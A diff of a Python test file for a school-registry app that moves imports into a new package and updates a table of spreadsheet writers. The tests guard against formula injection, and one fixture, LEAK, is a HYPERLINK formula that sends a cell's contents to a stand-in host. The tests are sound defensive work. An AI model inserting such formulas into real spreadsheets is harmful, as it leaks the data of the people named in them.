@@ -21,16 +21,13 @@ from openpyxl import Workbook, load_workbook
 
 from common.spreadsheets import csv_cell, formula_like
 from conftest import World, login
-from tenant_apps.registry import workbooks
 from tenant_apps.registry.fields import BY_KEY, COLUMNS
+from tenant_apps.registry.imports import annotate
+from tenant_apps.registry.imports.annotate import workbook_annotate
+from tenant_apps.registry.imports.columns import DATA_SHEET, INSTRUCTIONS_SHEET
+from tenant_apps.registry.imports.export import rows_export
+from tenant_apps.registry.imports.template import template_build
 from tenant_apps.registry.tests.factories import valid_row
-from tenant_apps.registry.workbooks import (
-    DATA_SHEET,
-    INSTRUCTIONS_SHEET,
-    rows_export,
-    template_build,
-    workbook_annotate,
-)
 from tenants.context import school_context
 
 LEAK = '=HYPERLINK("http://x/leak?"&I2,"点击")'
@@ -120,12 +117,12 @@ def test_export_leaves_lookalikes_alone_and_survives_control_characters() -> Non
     assert [c.value for c in ws[2]][-2:] == ["李\ufffd四", "王\ufffd五"]
 
 
-# -- the teacher list and its template (registry.teachers through rows_export) --------------
+# -- the teacher list and its template (registry.teachers.services through rows_export) ---
 
 
 def test_teacher_export_and_template_keep_typed_formulas_as_text(world: World, db: None) -> None:
     from common.actor import Actor
-    from tenant_apps.registry.teachers import TEACHER_SHEET, teacher_create
+    from tenant_apps.registry.teachers.services import TEACHER_SHEET, teacher_create
 
     subjects = [text[:30] for text in HOSTILE]  # 任教学科 holds 30 characters
     with school_context(world.a.schema):
@@ -218,7 +215,7 @@ def test_annotated_workbook_keeps_typed_formulas_as_text(
     else:
         data = _xlsx_upload(rows)
     if fmt == "xlsx_rebuilt":  # a sheet over the in-place limit is rebuilt in write-only mode
-        monkeypatch.setattr(workbooks, "ANNOTATE_IN_PLACE_MAX_CELLS", 10)
+        monkeypatch.setattr(annotate, "ANNOTATE_IN_PLACE_MAX_CELLS", 10)
 
     annotated = workbook_annotate(data=data, fmt=fmt.split("_")[0], errors=ANNOTATION_ERRORS)
 
@@ -289,12 +286,17 @@ HELPER = "common/spreadsheets.py"
 # Every module that writes spreadsheets, with the tests above that read its output back.
 # A new writer must be added here, with a test, and write through common.spreadsheets.
 WRITERS = {
-    "tenant_apps/registry/workbooks.py": (
+    "tenant_apps/registry/imports/export.py": (
         "test_student_export_keeps_typed_formulas_as_text",
+        "test_teacher_export_and_template_keep_typed_formulas_as_text",
+    ),
+    "tenant_apps/registry/imports/template.py": (
         "test_template_keeps_a_school_name_that_looks_like_a_formula_as_text",
+        "test_teacher_export_and_template_keep_typed_formulas_as_text",
+    ),
+    "tenant_apps/registry/imports/annotate.py": (
         "test_annotated_workbook_keeps_typed_formulas_as_text",
         "test_import_of_a_csv_hands_back_its_formulas_as_text",
-        "test_teacher_export_and_template_keep_typed_formulas_as_text",
     ),
     "accounts/audit.py": ("test_audit_csv_export_marks_formulas_with_an_apostrophe",),
 }
